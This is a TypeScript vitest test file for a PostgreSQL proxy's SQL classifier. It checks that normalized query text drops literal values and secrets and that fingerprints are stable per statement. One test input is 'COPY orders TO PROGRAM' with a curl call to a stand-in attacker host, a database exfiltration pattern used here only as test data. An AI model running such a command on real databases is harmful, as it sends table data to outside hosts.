import { beforeAll, describe, expect, it } from 'vitest';
import { classifySql, initClassifier } from '../../../../src/proxy/pg/classify/index.ts';
import { CTX } from './helpers.ts';

beforeAll(() => initClassifier());

function one(sql: string) {
  const out = classifySql(sql, CTX);
  if (!out.ok || out.statements.length !== 1) throw new Error('expected one statement');
  return out.statements[0]!;
}

describe('normalized text carries no literal values', () => {
  it.each<[string, string]>([
    // Literal tokens of the real lexer, numbered in text order; a minus sign is its own token.
    ["SELECT * FROM t WHERE a IN (1, 2, 'x') LIMIT 10 OFFSET 5", 'SELECT * FROM t WHERE a IN ($1, $2, $3) LIMIT $4 OFFSET $5'],
    ["SELECT E'a\\'b', $$x$$, $q$y$q$, B'101', X'ff', U&'d\\0061t', 1.5e3, -7, interval '1 day'", 'SELECT $1, $2, $3, $4, $5, $6, $7, -$8, interval $9'],
    ["COPY orders TO PROGRAM 'curl evil.example'", 'COPY orders TO PROGRAM $1'],
    ["CREATE ROLE x PASSWORD 'hunter2'", 'CREATE ROLE x PASSWORD $1'],
    ["CREATE TABLE t (a text DEFAULT 'secret', b int CHECK (b > 42))", 'CREATE TABLE t (a text DEFAULT $1, b int CHECK (b > $2))'],
    ['SELECT 1 /* password=hunter2 */ -- token abc\n FROM t', 'SELECT $1 FROM t'],
    ["SET app.key = 'k3y'", 'SET app.key = $1'],
    ['SELECT * FROM t WHERE a = $1 AND b = 5', 'SELECT * FROM t WHERE a = $1 AND b = $2'],
  ])('%s', (sql, normalized) => {
    expect(one(sql).normalized).toBe(normalized);
  });

  it('control characters the scanner output cannot carry: the fallback still drops the literal', () => {
    expect(one("SELECT '\u001b[31m red' FROM t WHERE a = 2").normalized).toBe('SELECT $1 FROM t WHERE a = $2');
  });

  it('identifiers stay, so the text is still useful', () => {
    expect(one('SELECT "Total" FROM "Orders"').normalized).toBe('SELECT "Total" FROM "Orders"');
  });
});

describe('fingerprint', () => {
  it('is stable across literal values and differs across statements', () => {
    const a = one('SELECT * FROM orders WHERE id = 1').fingerprint;
    expect(one('SELECT * FROM orders WHERE id = 999').fingerprint).toBe(a);
    expect(one('DELETE FROM orders WHERE id = 1').fingerprint).not.toBe(a);
    expect(a).toMatch(/^[0-9a-f]{16}$/);
  });
  it('is computed per statement of a multi-statement string', () => {
    const out = classifySql("SELECT 1; DELETE FROM orders WHERE secret = 'x'", CTX);
    expect(out.ok).toBe(true);
    if (!out.ok) return;
    expect(out.statements[1]!.fingerprint).toBe(one('DELETE FROM orders WHERE secret = 1').fingerprint);
    expect(out.statements[1]!.normalized).toBe('DELETE FROM orders WHERE secret = $1');
  });
  it('handles multi-byte text before a statement boundary', () => {
    const out = classifySql("SELECT 'é😀'; DELETE FROM orders", CTX);
    expect(out.ok && out.statements.map((s) => s.normalized)).toEqual(['SELECT $1', 'DELETE FROM orders']);
  });
});
